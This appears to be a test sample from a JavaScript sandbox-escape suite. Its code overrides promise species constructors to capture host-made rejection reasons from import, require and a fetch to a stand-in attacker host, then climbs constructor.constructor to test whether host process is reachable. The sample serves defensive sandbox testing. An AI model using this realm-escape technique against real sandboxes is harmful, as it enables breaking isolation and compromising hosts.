/*---
id: re-promise-species-02-host-rejection
description: "Puts a species constructor on promises rejected by the injected API (import(), fetch, an async wrapper around require) so that each host-made rejection reason flows into the fake executor."
kind: malicious
category: realm-escape
technique: RE-promise-species
variant: plain
references:
  - "CVE-2023-37466"
  - "CVE-2026-24120"
  - "CVE-2026-47208"
  - "CVE-2026-93606"
  - "CVE-2026-92944"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const sources = [() => import('fs'), async () => require('child_process'), async () => fetch('https://attacker.example/')];
const reasons = [];
for (const make of sources) {
  const p = make();
  p.catch(() => {});
  await new Promise((done) => {
    p.constructor = { [Symbol.species]: function (executor) { executor(done, (r) => { reasons.push(r); done(); }); } };
    p.then();
  });
}
for (const r of reasons) {
  if (r === null || typeof r !== 'object') continue;
  try { if (r.constructor.constructor('return typeof process')() !== 'undefined') return 'ESCAPED'; } catch (e) {}
}
return 'held';
